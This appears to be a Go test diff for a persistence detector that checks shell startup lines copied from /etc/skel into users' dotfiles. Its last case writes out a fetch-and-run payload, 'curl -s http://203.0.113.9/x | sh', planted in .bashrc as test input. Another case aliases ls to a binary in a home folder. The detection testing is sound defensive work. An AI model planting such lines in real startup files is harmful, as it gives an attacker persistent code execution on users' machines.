@@ -39,3 +39,26 @@ func TestJudgement(t *testing.T) {
 		})
 	}
 }
+
+func TestSkel(t *testing.T) {
+	const skel = `- startup-command "user.name=each account made since" "process.command_line=alias ls='ls --color=auto'" file.path=/etc/skel/.bashrc file.package=bash`
+	for _, tc := range []struct {
+		name, event string
+		found       int
+	}{
+		{"copied by useradd", `- startup-command user.name=eve "process.command_line=alias ls='ls --color=auto'" file.path=/home/eve/.bashrc`, 1},
+		{"in another file", `- startup-command user.name=eve "process.command_line=alias ls='ls --color=auto'" file.path=/home/eve/.profile`, 2},
+		{"another line", `- startup-command user.name=eve "process.command_line=alias ls='/home/eve/ls'" file.path=/home/eve/.bashrc`, 2},
+	} {
+		for _, events := range []string{skel + "\n" + tc.event, tc.event + "\n" + skel} {
+			if got := detecttest.Run(t, persistence.New(), detecttest.Scene(), events); len(got) != tc.found {
+				t.Errorf("%s: want %d: %+v", tc.name, tc.found, got)
+			}
+		}
+	}
+	const bad = `"process.command_line=curl -s http://203.0.113.9/x | sh"`
+	got := detecttest.Run(t, persistence.New(), detecttest.Scene(), `- startup-command "user.name=each account made since" `+bad+` file.path=/etc/skel/.bashrc`+"\n"+`- startup-command user.name=eve `+bad+` file.path=/home/eve/.bashrc`)
+	if len(got) != 2 {
+		t.Errorf("what is bad in skel is bad in a home too: %+v", got)
+	}
+}
